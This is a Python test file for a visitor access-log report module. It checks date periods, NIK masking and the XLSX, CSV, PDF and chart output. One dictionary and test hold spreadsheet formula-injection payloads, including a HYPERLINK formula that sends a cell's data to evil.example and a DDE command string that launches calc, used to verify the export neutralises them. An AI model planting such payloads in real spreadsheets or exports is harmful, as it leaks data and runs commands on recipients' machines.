"""The access log's rendering (bot/reports/): periods, XLSX, CSV, PDF pages, chart."""

from __future__ import annotations

import csv
import gc
import io
import itertools
import re
from dataclasses import replace
from datetime import UTC, date, datetime, time, timedelta
from zoneinfo import ZoneInfo

import pytest
from matplotlib.text import Text
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from PIL import Image
from pypdf import PdfReader

from bot.core.period import (
    Period,
    PeriodError,
    Preset,
    ReversedPeriod,
    parse_date,
    parse_period,
    preset_period,
)
from bot.core.standards import TimeStandards
from bot.core.visits import Visit, VisitStatus
from bot.reports.chart import build_figure
from bot.reports.export import ProgressBar, collector_paused, render
from bot.reports.log import (
    COLUMNS,
    PDF_COLUMNS,
    UNSHOWN,
    AccessLog,
    build_access_log,
    inert,
    text_cells,
)
from bot.texts import form as form_texts

WIB = ZoneInfo("Asia/Jakarta")
T0 = datetime(2026, 11, 2, 1, 0, tzinfo=UTC)  # Monday 08:00 WIB
NAMES = {1001: "Sari Petugas", 2001: "Budi Kasi", 3001: "Dewi Pendamping"}


def make_visit(number: int, **changes: object) -> Visit:
    start = T0 + timedelta(hours=number)
    base = Visit(
        id=number,
        status=VisitStatus.DONE,
        visitor_id=number,
        nik=f"35080155079{number % 100000:05d}",
        name=f"Pengunjung {number}",
        organisation="PT Jaringan Nusantara",
        phone="081234567890",
        purpose="Pemeliharaan server",
        duration_minutes=30,
        equipment="Laptop",
        ktp_file_id="file",
        officer_id=1001,
        started_at=start,
        form_done_at=start + timedelta(minutes=5),
        submitted_at=start + timedelta(minutes=7),
        handover_at=start + timedelta(minutes=7),
        decided_at=start + timedelta(minutes=10),
        decided_by=2001,
        entered_at=start + timedelta(minutes=15),
        entry_escort_id=3001,
        exited_at=start + timedelta(minutes=40),
        exit_escort_id=3001,
    )
    return replace(base, **changes)  # type: ignore[arg-type]


def access_log(visits: list[Visit], period: Period | None = None) -> AccessLog:
    return build_access_log(
        visits,
        period or Period(date(2026, 11, 1), date(2026, 11, 30)),
        tz=WIB,
        standards=TimeStandards(),
        names=NAMES,
        now=T0 + timedelta(days=20),
    )


def pdf_pages(data: bytes) -> list[str]:
    return [page.extract_text() for page in PdfReader(io.BytesIO(data)).pages]


# --- periods ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2026-11-01", date(2026, 11, 1)),
        ("01-11-2026", date(2026, 11, 1)),
        ("1/11/2026", date(2026, 11, 1)),
        ("28.11.2026", date(2026, 11, 28)),
    ],
)
def test_dates_in_both_orders(text: str, expected: date) -> None:
    assert parse_date(text) == expected


@pytest.mark.parametrize("text", ["kemarin", "2026-13-01", "31-02-2026", "26-11-01", ""])
def test_bad_dates(text: str) -> None:
    with pytest.raises(PeriodError):
        parse_date(text)


def test_periods() -> None:
    assert parse_period(["2026-11-01", "28-11-2026"]) == Period(
        date(2026, 11, 1), date(2026, 11, 28)
    )
    assert parse_period(["2026-11-05"]).days == 1
    with pytest.raises(ReversedPeriod):
        parse_period(["2026-11-28", "2026-11-01"])
    with pytest.raises(PeriodError):
        parse_period(["2026-11-01", "2026-11-02", "2026-11-03"])
    # Saturday 28 November 2026, 23:30 WIB is still that Saturday in the office.
    now = datetime(2026, 11, 28, 16, 30, tzinfo=UTC)
    assert preset_period(Preset.TODAY, now, WIB) == Period(date(2026, 11, 28), date(2026, 11, 28))
    assert preset_period(Preset.WEEK, now, WIB) == Period(date(2026, 11, 23), date(2026, 11, 28))
    assert preset_period(Preset.MONTH, now, WIB) == Period(date(2026, 11, 1), date(2026, 11, 28))
    start, end = Period(date(2026, 11, 1), date(2026, 11, 1)).bounds(WIB)
    assert start == datetime(2026, 10, 31, 17, 0, tzinfo=UTC)
    assert end - start == timedelta(days=1)


# --- rows ------------------------------------------------------------------------------------


def test_rows_mask_the_nik_name_staff_and_list_breaches() -> None:
    late = make_visit(
        2, decided_at=T0 + timedelta(hours=2, minutes=25), entered_at=None, exited_at=None
    )
    late = replace(late, status=VisitStatus.EXPIRED)
    denied = make_visit(
        3, status=VisitStatus.DENIED, decided_by=2999, entered_at=None, exited_at=None
    )
    log = access_log([denied, late, make_visit(1)])
    assert [row.number for row in log.rows] == [1, 2, 3]
    first, second, third = log.rows
    assert first.nik == "3508**********01" and first.approved_by == "Budi Kasi"
    assert first.escort == "Dewi Pendamping" and first.duration == 25
    assert first.breaches == "" and not first.breached
    assert second.breaches == "Keputusan 18 > 10 mnt" and second.status == "Kedaluwarsa"
    assert third.approved_by == "(ditolak: ID 2999)"  # no longer in the config
    assert log.breach_counts()[next(iter(log.breach_counts()))] == (0, 3)
    assert log.breached_rows == 1
    assert len(log.titles) == len(COLUMNS) and "Keluar (WIB)" in log.titles


def test_a_cancelled_request_shows_who_when_and_why() -> None:
    gone = dict(entered_at=None, exited_at=None, entry_escort_id=None, exit_escort_id=None)
    cancelled_at = T0 + timedelta(hours=1, minutes=30)  # 09:30 WIB
    pending = make_visit(
        1,
        status=VisitStatus.CANCELLED,
        decided_at=None,
        decided_by=None,
        cancelled_at=cancelled_at,
        cancelled_by=1001,
        cancel_reason="Tidak jadi datang",
        **gone,
    )
    approved = replace(pending, id=2, decided_at=T0, decided_by=2001, cancelled_by=1999)
    log = access_log([pending, approved])
    first, second = log.rows
    assert first.status == second.status == "Dibatalkan"
    # Who withdrew it, when and why: its notes; the approval it had stays in its column.
    cancel = "Dibatalkan oleh Sari Petugas, 02-11 09:30: Tidak jadi datang"
    assert first.notes == cancel and first.approved_by == "" and first.decided_at is None
    assert second.notes == "Dibatalkan oleh ID 1999, 02-11 09:30: Tidak jadi datang"
    assert second.approved_by == "Budi Kasi"
    assert first.escort == "" and first.duration is None
    assert cancel in render(log, "csv").decode("utf-8-sig")


# --- formats ---------------------------------------------------------------------------------


def test_xlsx_has_a_frozen_header_widths_and_local_times() -> None:
    log = access_log([make_visit(i) for i in range(1, 6)])
    book = load_workbook(io.BytesIO(render(log, "xlsx")))
    sheet = book["Log akses"]
    assert sheet.freeze_panes == "A2"
    # XlsxWriter stores the width as Excel does, with its padding of about 0.71 character.
    assert sheet.column_dimensions["D"].width == pytest.approx(COLUMNS[3].xlsx_width, abs=0.8)
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 6
    entry = rows[1][log.titles.index("Masuk (WIB)")]
    assert entry == datetime(2026, 11, 2, 9, 15)  # 02:15 UTC, shown as office time
    summary = [r for r in book["Ringkasan"].iter_rows(values_only=True) if r and r[0]]
    assert ("Jumlah permintaan", 5) in [tuple(r[:2]) for r in summary]


def test_xlsx_read_back_keeps_sheets_styles_formats_and_filter() -> None:
    """Issue 13 moved the workbook to XlsxWriter: read back with openpyxl (as Excel and
    LibreOffice open it), it has what the openpyxl-written one had."""
    log = access_log([make_visit(i) for i in range(1, 6)])
    book = load_workbook(io.BytesIO(render(log, "xlsx")))
    assert book.sheetnames == ["Log akses", "Ringkasan"]
    sheet = book["Log akses"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{get_column_letter(len(COLUMNS))}6"
    assert [sheet.column_dimensions[get_column_letter(i)].width for i in (1, len(COLUMNS))] == [
        pytest.approx(COLUMNS[0].xlsx_width, abs=0.8),
        pytest.approx(COLUMNS[-1].xlsx_width, abs=0.8),
    ]
    header = sheet["A1"]
    assert header.value == log.titles[0]
    assert header.font.b and header.font.color.rgb.endswith("FFFFFF")
    assert header.fill.fgColor.rgb.endswith("1F4E79") and header.alignment.wrap_text
    entry = sheet.cell(2, log.titles.index("Masuk (WIB)") + 1)
    assert entry.is_date and entry.number_format == "dd-mm-yyyy hh:mm"
    assert sheet.cell(2, 2).is_date and sheet.cell(2, 2).number_format == "dd-mm-yyyy"
    assert sheet.cell(2, 1).value == 1  # a number, not text
    summary = book["Ringkasan"]
    assert summary["A1"].font.b and summary["A1"].value


def test_xlsx_cells_read_back_as_each_rows_values_and_formats() -> None:
    """Issue 13 writes the log's cells through a per-column plan: read back, every cell is
    its row's value (a number, a date, a local time, text), an empty value an empty cell,
    the notes wrapped and the breaches red."""
    late = make_visit(2, decided_at=T0 + timedelta(hours=2, minutes=25))
    inside = make_visit(3, status=VisitStatus.INSIDE, exited_at=None, exit_escort_id=None)
    cancelled = make_visit(
        4,
        status=VisitStatus.CANCELLED,
        cancelled_at=T0 + timedelta(hours=4, minutes=30),
        cancelled_by=1001,
        cancel_reason="+62 tidak jadi",
        entered_at=None,
        exited_at=None,
        entry_escort_id=None,
        exit_escort_id=None,
    )
    log = access_log([make_visit(1), late, inside, cancelled])
    sheet = load_workbook(io.BytesIO(render(log, "xlsx")))["Log akses"]
    keys = [column.key for column in COLUMNS]
    styled = set()
    for r, row in enumerate(log.rows, 2):
        expected: list[object] = [
            row.number,
            datetime.combine(row.day, time()),
            row.reference,
            *row.details.values(),
            row.status,
            row.approved_by,
            row.decided_at,
            row.escort,
            row.entered_at,
            row.exited_at,
            row.duration,
            row.notes,
            row.breaches,
        ]
        for col, value in enumerate(expected, 1):
            if isinstance(value, datetime):
                value = value.replace(tzinfo=None)
            elif isinstance(value, str):
                value = inert(value)
            cell = sheet.cell(r, col)
            assert cell.value == (None if value == "" else value), (r, keys[col - 1])
        notes = sheet.cell(r, keys.index("notes") + 1)
        breaches = sheet.cell(r, keys.index("breaches") + 1)
        if notes.value:
            styled.add("notes")
            assert notes.alignment.wrap_text and notes.alignment.vertical == "top"
        if breaches.value:
            styled.add("breaches")
            assert breaches.font.color is not None
            assert breaches.font.color.rgb.endswith("C00000")
    assert styled == {"notes", "breaches"}
    second, third, fourth = log.rows[1:]
    assert second.breaches and third.exited_at is None and third.duration is None
    assert fourth.notes.startswith("Dibatalkan") and "+62 tidak jadi" in fourth.notes


def test_the_log_shows_nothing_of_what_the_export_leaves_encrypted() -> None:
    """The export does not decrypt the phone and the KTP file id (issue 13): a log of
    visits without them is the same log, in every format's cells."""
    assert {"phone", "ktp_file_id"} == UNSHOWN
    visits = [make_visit(1), make_visit(2, status=VisitStatus.DENIED, deny_reason="KTP")]
    blank = [replace(v, **dict.fromkeys(UNSHOWN, "")) for v in visits]
    assert [v.phone for v in visits] != [v.phone for v in blank]
    full, shown = access_log(visits), access_log(blank)
    assert [text_cells(r) for r in full.rows] == [text_cells(r) for r in shown.rows]
    assert [text_cells(r, short_times=True) for r in full.rows] == [
        text_cells(r, short_times=True) for r in shown.rows
    ]
    assert render(full, "csv") == render(shown, "csv")
    assert pdf_pages(render(full, "pdf")) == pdf_pages(render(shown, "pdf"))


def test_the_cycle_collector_is_paused_while_exports_run_and_only_then() -> None:
    """Two exports side by side (/laporan's XLSX and PDF): the collector resumes when the
    last one ends, and stays off if it was off before."""
    assert gc.isenabled()
    with collector_paused():
        assert not gc.isenabled()
        with collector_paused():
            assert not gc.isenabled()
        assert not gc.isenabled()
    assert gc.isenabled()
    with pytest.raises(RuntimeError), collector_paused():
        raise RuntimeError("an export failed")
    assert gc.isenabled()
    gc.disable()
    try:
        with collector_paused():
            pass
        assert not gc.isenabled()
    finally:
        gc.enable()


def test_xlsx_text_that_looks_like_a_formula_stays_text() -> None:
    log = access_log([make_visit(1, name='=HYPERLINK("http://x")')])
    sheet = load_workbook(io.BytesIO(render(log, "xlsx")))["Log akses"]
    cell = sheet.cell(2, log.titles.index("Nama") + 1)
    # Written as text, and neutralised with an apostrophe (issue 10's report injection).
    assert cell.data_type == "s" and cell.value == "'" + '=HYPERLINK("http://x")'


def test_pdf_rules_the_table_per_row_and_per_column_not_per_cell() -> None:
    """Issue 13: a rectangle around every cell (180,000 for 10,000 visits) was a third of
    a PDF export. The heading's cells are still filled boxes; a row gets one rule under it
    and each column one rule from the page's first row to its last."""
    log = access_log([make_visit(i) for i in range(1, 80)])
    pages = PdfReader(io.BytesIO(render(log, "pdf"))).pages
    assert len(pages) >= 2
    for page in pages[:-1]:  # the last may hold only the signature
        ops = page.get_contents().get_data()
        rectangles = len(re.findall(rb" re\b", ops))
        lines = len(re.findall(rb" l\b", ops))
        assert rectangles == len(PDF_COLUMNS)  # the heading
        rows = lines - (len(PDF_COLUMNS) + 1)  # the rest are the column rules
        assert rows >= 10, (rectangles, lines)


def test_csv_is_utf8_with_bom_and_the_same_columns() -> None:
    log = access_log([make_visit(1, name='Andrés Ñúñez, "Ucok"')])
    data = render(log, "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == log.titles
    assert rows[1][3] == 'Andrés Ñúñez, "Ucok"'
    assert rows[1][log.titles.index("Masuk (WIB)")] == "2026-11-02 09:15"


INJECTIONS = {
    "name": '=HYPERLINK("http://evil.example/?d="&B2,"klik")',
    "organisation": "=1+1",
    "purpose": "+62-cmd|' /C calc'!A0",
    "equipment": "@SUM(1,2)",
}


def test_formula_like_text_stays_text_in_xlsx_and_csv() -> None:
    log = access_log(
        [make_visit(1, **INJECTIONS), make_visit(2, name="\t=1+2", organisation="\r=3")]
    )
    titles = log.titles
    keys = [column.key for column in COLUMNS]
    columns = {field: keys.index(field) for field in INJECTIONS}
    sheet = load_workbook(io.BytesIO(render(log, "xlsx")))["Log akses"]
    first, second = list(sheet.iter_rows(min_row=2, max_row=3))
    csv_rows = list(csv.reader(io.StringIO(render(log, "csv").decode("utf-8-sig"))))
    for field, column in columns.items():
        cell = first[column]
        assert cell.data_type == "s", (field, cell.value)  # not "f": no live formula
        assert cell.value == "'" + INJECTIONS[field]
        assert csv_rows[1][column] == "'" + INJECTIONS[field]
    for cell in (second[columns["name"]], second[columns["organisation"]]):
        assert cell.data_type == "s" and cell.value.startswith("'")
    assert csv_rows[2][columns["name"]] == "'\t=1+2"
    assert csv_rows[2][columns["organisation"]] == "'\r=3"
    # An ordinary value is untouched, and the PDF (not a spreadsheet) shows the text as typed.
    assert csv_rows[1][titles.index("Status")] == first[titles.index("Status")].value
    assert "=1+1" in pdf_pages(render(log, "pdf"))[0]
    assert "'=1+1" not in pdf_pages(render(log, "pdf"))[0]


def test_pdf_pages_are_numbered_and_end_with_the_signature_block() -> None:
    log = access_log([make_visit(i) for i in range(1, 121)])
    pages = pdf_pages(render(log, "pdf"))
    total = len(pages)
    assert total >= 3
    for number, text in enumerate(pages, 1):
        assert f"Halaman {number} dari {total}" in text
        if "Pengunjung" in text:  # the table's header on every page with rows
            assert "Nama" in text and "Pelanggaran" in text
    assert "PEMERINTAH KABUPATEN LUMAJANG" in pages[0]
    assert "PEMERINTAH KABUPATEN LUMAJANG" not in pages[1]
    assert "Kepala Seksi Pengelolaan dan Pengembangan Infrastruktur SPBE" in pages[-1]
    assert "Mengetahui," in pages[-1] and "NIP." in pages[-1]
    everything = "\n".join(pages)
    assert all(f"Pengunjung {i}" in everything for i in (1, 60, 120))


def test_pdf_prints_any_latin_name_and_wraps_long_text() -> None:
    long_purpose = "Ganti " + "modul-memori-server-rak-A3 " * 6  # wraps at its hyphens
    log = access_log([make_visit(1, name="Ñoño Łukasz Çelik", purpose=long_purpose)])
    text = pdf_pages(render(log, "pdf"))[0]
    assert "Ñoño Łukasz Çelik" in text
    assert "Ganti" in text and text.count("memori-") == 6


def test_pdf_never_breaks_a_purpose_or_organisation_word_in_the_standard_columns() -> None:
    """The Catatan column once squeezed the free-text columns into "Pemelihara/an" and
    "Inspektora/t": with the notes under the row, every suggested purpose's words and a
    long organisation word print whole, even on a row that has notes."""
    purposes = [*form_texts.PURPOSES, "Penggantian perangkat"]
    visits = [
        make_visit(i, purpose=purpose, organisation="Inspektorat Kabupaten")
        for i, purpose in enumerate(purposes, 1)
    ]
    visits[0] = replace(visits[0], status=VisitStatus.DENIED, deny_reason="Jadwal penuh")
    log = access_log(visits)
    assert log.rows[0].notes
    words = pdf_pages(render(log, "pdf"))[0].split()
    for word in {w for purpose in purposes for w in purpose.split()} | {"Inspektorat"}:
        assert word in words, word
    assert "Pemeliharaan" in words and "Penggantian" in words


def test_pdf_of_an_empty_period_still_prints() -> None:
    text = pdf_pages(render(access_log([]), "pdf"))[0]
    assert "Tidak ada kunjungan pada periode ini." in text
    assert "Halaman 1 dari 1" in text


def test_chart_is_a_png_for_long_and_empty_periods() -> None:
    visits = [make_visit(i, submitted_at=T0 + timedelta(days=i)) for i in range(40)]
    period = Period(date(2026, 10, 1), date(2026, 12, 31))
    png = render(access_log(visits, period), "png")
    image = Image.open(io.BytesIO(png))
    assert image.format == "PNG" and image.size[0] == 840 < image.size[1]  # phone, portrait
    assert Image.open(io.BytesIO(render(access_log([]), "png"))).format == "PNG"


@pytest.mark.parametrize(
    ("days", "labels"),
    [
        (1, ["02-11"]),
        (2, ["02-11", "03-11"]),
        (7, ["02-11", "03-11", "04-11", "05-11", "06-11", "07-11", "08-11"]),
        (31, ["02-11", "09-11", "16-11", "23-11", "30-11"]),  # weekly, from the first day
    ],
)
def test_chart_has_one_tick_per_day_and_legible_labels(days: int, labels: list[str]) -> None:
    period = Period(date(2026, 11, 2), date(2026, 11, 2) + timedelta(days=days - 1))
    visits = [make_visit(i) for i in range(1, 4)]  # on the first day, 09:00-11:00 WIB
    figure = build_figure(access_log(visits, period))
    per_day = figure.axes[0]
    assert list(per_day.get_xticks()) == list(range(days))  # a tick on every day
    shown = [t.get_text() for t in per_day.get_xticklabels()]
    assert len(shown) == days and [t for t in shown if t] == labels
    # Bars stand centred on their day's tick: the first day's bar holds the three visits.
    bars = [b for b in per_day.patches if b.get_height() > 0]
    assert {round(b.get_x() + b.get_width() / 2, 6) for b in bars} == {0.0}
    figure.canvas.draw()
    boxes = [t.get_window_extent() for t in per_day.get_xticklabels() if t.get_text()]
    assert all(a.x1 < b.x0 for a, b in itertools.pairwise(boxes)), "labels overlap"
    # Every text, shown on a 390 px wide phone screen, is at least 11 px tall.
    width_px = figure.get_figwidth() * figure.dpi
    texts = [t for t in figure.findobj(Text) if t.get_visible() and t.get_text().strip()]
    assert texts and min(t.get_fontsize() for t in texts) * figure.dpi / 72 * 390 / width_px >= 11


def test_unknown_format() -> None:
    with pytest.raises(ValueError, match="unknown format"):
        render(access_log([]), "docx")


def test_progress_bar_only_for_large_exports() -> None:
    stream = io.StringIO()
    bar = ProgressBar("export xlsx", stream, width=10, enabled=True)
    bar(10, 20)
    assert stream.getvalue() == ""
    bar(500, 2000)
    bar(2000, 2000)
    lines = re.split(r"[\r\n]", stream.getvalue())
    assert "export xlsx [##--------] 500/2000  25%" in lines
    assert stream.getvalue().endswith("[##########] 2000/2000 100%\n")
    silent = io.StringIO()
    ProgressBar("x", silent)(2000, 2000)  # not a terminal
    assert silent.getvalue() == ""
